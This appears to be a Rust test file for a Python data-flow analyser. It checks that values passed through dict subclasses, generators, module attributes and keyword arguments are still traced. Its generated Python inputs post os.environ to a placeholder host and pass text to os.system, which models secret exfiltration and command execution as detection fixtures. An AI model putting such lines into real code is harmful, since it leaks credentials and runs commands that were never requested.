//! Claims about values that pass through a construct of Python: what comes out is what went in.
//!
//! Each construct is given the environment, a function and a known text.  `V` stands for what is put in.

#[allow(dead_code, reason = "shared with other tests")]
mod common;

use common::events_of;
use venin_model::{Event, OriginKind, Role, Trigger};

/// What a construct loses of what is put in; nothing if all of it comes out.
fn lost(setup: &str, expression: &str) -> Vec<&'static str> {
    let with = |value: &str, statement: &str| {
        let passed = expression.replace('V', value);
        let source = format!("import os, requests\n{setup}\n{}\n", statement.replace("PASSED", &passed));
        let is_at_import = |event: &Event| event.trigger == Trigger::Import;
        events_of(&source).into_iter().filter(is_at_import).collect::<Vec<_>>()
    };
    let command = |events: Vec<Event>| {
        let event = events.into_iter().find(|event| &*event.name == "os.system");
        let arguments = event.map(|event| event.arguments).unwrap_or_default();
        let command = arguments.iter().find(|argument| argument.role == Role::Command)?.value.clone();
        command.map(|value| value.text.to_string())
    };
    let mut lost = Vec::new();
    let sent = with("os.environ", "requests.post('https://a.invalid', data=PASSED)");
    let is_sent = |event: &Event| {
        let data = event.arguments.iter().filter(|argument| argument.role == Role::Data);
        &*event.name == "requests.post"
            && data.into_iter().any(|argument| argument.origins.kinds.contains(OriginKind::Env))
    };
    if !sent.iter().any(is_sent) {
        lost.push("the environment");
    }
    if command(with("os.system", "(PASSED)('echo a')")).as_deref() != Some("echo a") {
        lost.push("a function");
    }
    if command(with("'echo b'", "os.system(PASSED)")).as_deref() != Some("echo b") {
        lost.push("a text");
    }
    lost
}

/// Whether nothing is lost in any of some constructs, each a setup and an expression with `V`.
#[track_caller]
fn assert_pass(constructs: &[(&str, &str)]) {
    let lossy = constructs.iter().map(|(setup, expression)| (setup, expression, lost(setup, expression)));
    let lossy: Vec<String> = lossy
        .filter(|(_, _, lost)| !lost.is_empty())
        .map(|(setup, expression, lost)| format!("{setup}\n{expression}\n  loses {}", lost.join(", ")))
        .collect();
    assert!(lossy.is_empty(), "{}", lossy.join("\n\n"));
}

/// The same of the body of a function that is given the value as `v`.
#[track_caller]
fn assert_bodies_pass(bodies: &[&str]) {
    let setups: Vec<String> = bodies
        .iter()
        .map(|body| {
            let (before, body) = body.split_once("---\n").unwrap_or(("", body));
            format!("{before}def pass_on(v):\n    {}", body.replace('\n', "\n    "))
        })
        .collect();
    let constructs: Vec<(&str, &str)> = setups.iter().map(|setup| (setup.as_str(), "pass_on(V)")).collect();
    assert_pass(&constructs);
}

#[test]
fn an_unbound_method_of_a_builtin_is_called_on_the_object() {
    assert_pass(&[
        ("class D(dict): __getattr__ = dict.__getitem__", "D(v=V).v"),
        ("class D(dict): __getattr__ = dict.get", "D(v=V).v"),
        ("class D(dict): __getattr__ = dict.get", "D({'v': V}).v"),
        ("class D(dict): read = dict.get", "D(v=V).read('v')"),
        ("class D(dict): take = dict.pop", "D(v=V).take('v')"),
        ("", "dict.get({'v': V}, 'v')"),
        ("", "dict.__getitem__({'v': V}, 'v')"),
        ("", "list.pop([V])"),
        ("", "list.__getitem__([V], 0)"),
    ]);
    assert_bodies_pass(&[
        "class D(dict):\n    __getattr__ = dict.get\n    __setattr__ = dict.__setitem__\n---\nd = D()\nd.v = v\nreturn d.v",
        "class D(dict):\n    __getattr__ = dict.get\n    __setattr__ = dict.__setitem__\n---\nd = D()\nd.v = v\nreturn d['v']",
        "class D(dict):\n    __setattr__ = dict.__setitem__\n---\nd = D()\nd.v = v\nreturn d.get('v')",
        "d = {}\ndict.__setitem__(d, 'v', v)\nreturn d['v']",
        "d = []\nlist.append(d, v)\nreturn d[0]",
    ]);
}

#[test]
fn what_a_generator_returns_is_the_value_of_delegating_to_it() {
    assert_bodies_pass(&[
        "def gen(v):\n    return v\n    yield\n---\nr = None\ndef run():\n    nonlocal r\n    r = yield from gen(v)\nlist(run())\nreturn r",
        "def gen(v):\n    yield 1\n    return v\ndef run(v):\n    r = yield from gen(v)\n    yield r\n---\nreturn list(run(v))[-1]",
        "def gen(v):\n    yield 1\n    return v\ndef run(v):\n    return (yield from gen(v))\ndef third(v):\n    yield (yield from run(v))\n---\nreturn list(third(v))[-1]",
        "def gen(v):\n    yield 1\n    return v\n---\ng = gen(v)\nnext(g)\ntry:\n    next(g)\nexcept StopIteration as e:\n    return e.value",
        "def gen(v):\n    return v\n    yield\n---\ng = gen(v)\ntry:\n    next(g)\nexcept StopIteration as e:\n    r = e.value\nreturn r",
        "def gen(v):\n    return v\n    yield\n---\ng = gen(v)\nwhile True:\n    try:\n        next(g)\n    except StopIteration as e:\n        return e.value",
        "try:\n    raise StopIteration(v)\nexcept StopIteration as e:\n    return e.value",
    ]);
}

#[test]
fn attributes_hold_on_functions_modules_and_objects_of_libraries() {
    assert_pass(&[
        ("def put(v): put.v = v", "put(V) or put.v"),
        ("import sys\ndef put(v): sys._x = v", "put(V) or sys._x"),
        (
            "import sys\ndef put(v): sys._x = v\ndef take():\n    import sys as s\n    return s._x",
            "put(V) or take()",
        ),
        ("import builtins\ndef put(v): builtins._x = v", "put(V) or builtins._x"),
        ("import builtins\ndef put(v): builtins._x = v", "put(V) or _x"),
        ("import os.path\ndef put(v): os.path._x = v", "put(V) or os.path._x"),
        ("import logging\ndef put(v): logging.root._x = v", "put(V) or logging.root._x"),
        ("import threading\nt = threading.local()\ndef put(v): t.v = v", "put(V) or t.v"),
        (
            "import threading\nt = threading.local()\ndef put(v): setattr(t, 'v', v)\ndef take(): return getattr(t, 'v')",
            "put(V) or take()",
        ),
        ("import types\nt = types.SimpleNamespace()\ndef put(v): t.v = v", "put(V) or t.v"),
        ("import argparse\nt = argparse.Namespace()\ndef put(v): t.v = v", "put(V) or t.v"),
        ("import types", "types.SimpleNamespace(v=V).v"),
        ("import types", "types.SimpleNamespace(**{'v': V}).v"),
        ("import argparse", "argparse.Namespace(v=V).v"),
        ("import types\nm = types.ModuleType('m')\ndef put(v): m.v = v", "put(V) or m.v"),
        ("import sys\ndef put(v): setattr(sys, '_x', v)", "put(V) or getattr(sys, '_x')"),
        ("import sys\ndef put(v): sys.__dict__['_x'] = v", "put(V) or sys._x"),
        ("import sys\ndef put(v): vars(sys)['_x'] = v", "put(V) or sys._x"),
        ("import sys\nclass C:\n    def put(self, v): sys._x = v", "C().put(V) or sys._x"),
        ("class C:\n    def m(self): pass\ndef put(v): C.m.v = v", "put(V) or C.m.v"),
        ("f = lambda: 0\ndef put(v): f.__dict__['v'] = v", "put(V) or f.v"),
    ]);
}



#[test]
fn what_is_sent_into_a_generator_is_what_its_yield_gives() {
    assert_bodies_pass(&[
        "def gen():\n    x = yield\n    yield x\n---\ng = gen()\nnext(g)\nreturn g.send(v)",
        "def gen():\n    x = yield\n    yield x\n---\ng = gen()\ng.send(None)\nreturn g.send(v)",
        "def gen():\n    x = None\n    while True:\n        x = yield x\n---\ng = gen()\nnext(g)\nreturn g.send(v)",
        "def gen():\n    x = yield 1\n    y = yield 2\n    yield y\n---\ng = gen()\nnext(g)\ng.send(0)\nreturn g.send(v)",
        "def gen():\n    try:\n        yield 1\n    except ValueError as e:\n        yield e.args[0]\n---\ng = gen()\nnext(g)\nreturn g.throw(ValueError(v))",
    ]);
}




#[test]
fn arguments_arrive_by_name_and_by_spreading() {
    assert_pass(&[
        ("def pass_on(**k): return k['v']", "pass_on(v=V)"),
        ("def pass_on(**k): return k.get('v')", "pass_on(v=V)"),
        ("def pass_on(a=None): return a", "pass_on(**{'a': V})"),
        ("def pass_on(*, a): return a", "pass_on(**dict(a=V))"),
        ("def pass_on(*a): return a[0]", "pass_on(V)"),
        ("def pass_on(*a, **k): return other(*a, **k)\ndef other(v): return v", "pass_on(v=V)"),
        ("def pass_on(a): return a", "pass_on(*(V,))"),
    ]);
}
